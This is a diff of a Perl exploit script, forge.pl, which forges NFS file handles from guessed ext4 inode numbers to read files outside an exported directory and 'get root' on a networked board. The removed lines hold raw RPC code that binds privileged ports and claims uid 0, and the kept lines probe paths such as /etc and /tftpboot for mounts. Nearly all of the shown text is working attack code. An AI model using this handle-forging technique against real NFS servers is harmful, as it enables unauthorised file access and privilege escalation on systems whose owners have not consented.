@@ -2,71 +2,13 @@
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 #
-# perl forge.pl SERVER EXPORT OTHER_EXPORT LAST INODE,… MARKER…: root on a board with forged NFS handles; perl is on any Debian.
+# perl nfs3.pl+forge.pl SERVER EXPORT OTHER_EXPORT LAST INODE,… MARKER…: root on a board with forged NFS handles.
 # The handle of a file holds its inode number and its generation (ext4), and ext4 takes generation 0 for any. Asks for
 # all numbers up to LAST, and the others, in both layers of its root; says which files hold a MARKER, and whether the way works
 # at all: by a file of its own that it asks for in the same way.
-use strict;
-use warnings;
-use Socket;
-
-my ($server, $export, $other, $last, $more, @markers) = @ARGV;
-my ($PORTMAP, $MOUNT, $NFS) = (100000, 100005, 100003);
-my ($LOOKUP, $READ) = (3, 6);
-# What stands for an answer to a call that is refused as such: NFS3ERR_ACCES.
-my $REFUSED = 13;
+my ($export, $other, $last, $more, @markers) = @ARGV;
 # Requests that are under way at once, and bytes that are read of a file.
 my ($BATCH, $COUNT) = (64, 4096);
-my $xid = 1;
-
-sub opaque { my $data = shift; return pack('N', length $data) . $data . "\0" x (-length($data) % 4) }
-
-sub dial {
-    my $port = shift;
-    socket(my $wire, PF_INET, SOCK_STREAM, 0) or die "socket: $!";
-    # A server may want to see that it is root who asks.
-    for my $own (700 .. 1000) { last if bind($wire, sockaddr_in($own, INADDR_ANY)) }
-    connect($wire, sockaddr_in($port, inet_aton($server))) or die "connect $port: $!";
-    binmode $wire;
-    return $wire;
-}
-
-sub ask {
-    my ($wire, $program, $version, $procedure, $body) = @_;
-    my $user = pack('N', 0) . opaque('board') . pack('N3', 0, 0, 0);
-    my $call = pack('N6', $xid++, 0, 2, $program, $version, $procedure) . pack('N', 1) . opaque($user) . pack('N2', 0, 0) . $body;
-    syswrite($wire, pack('N', 0x80000000 | length $call) . $call) or die "write: $!";
-}
-
-sub take {
-    my ($wire, $wanted) = @_;
-    my $data = '';
-    while (length $data < $wanted) { sysread($wire, $data, $wanted - length $data, length $data) or die "the server hung up" }
-    return $data;
-}
-
-sub answer {
-    my $wire = shift;
-    my ($data, $final) = ('', 0);
-    until ($final) {
-        my $head = unpack 'N', take($wire, 4);
-        $final = $head & 0x80000000;
-        $data .= take($wire, $head & 0x7fffffff);
-    }
-    my ($id, $kind, $refused, $flavor, $length) = unpack 'N5', $data;
-    return $refused ? pack 'N', $REFUSED : substr($data, 24 + $length);
-}
-
-sub port_of { my $wire = dial(111); ask($wire, $PORTMAP, 2, 3, pack('N4', shift, 3, 6, 0)); return unpack 'N', answer($wire) }
-
-sub mounted {
-    my ($port, $path) = @_;
-    my $wire = dial($port);
-    ask($wire, $MOUNT, 3, 1, opaque($path));
-    my ($status, $length, $rest) = unpack 'N2 a*', answer($wire) . "\0" x 8;
-    return $status ? undef : substr($rest, 0, $length);
-}
-
 my $mount_port = port_of($MOUNT);
 my $root = mounted($mount_port, $export) or die "cannot mount $export";
 for my $path ($other, '/', '/tftpboot', '/var/lib/hetero', '/etc') { print "mounts $path\n" if defined mounted($mount_port, $path) }
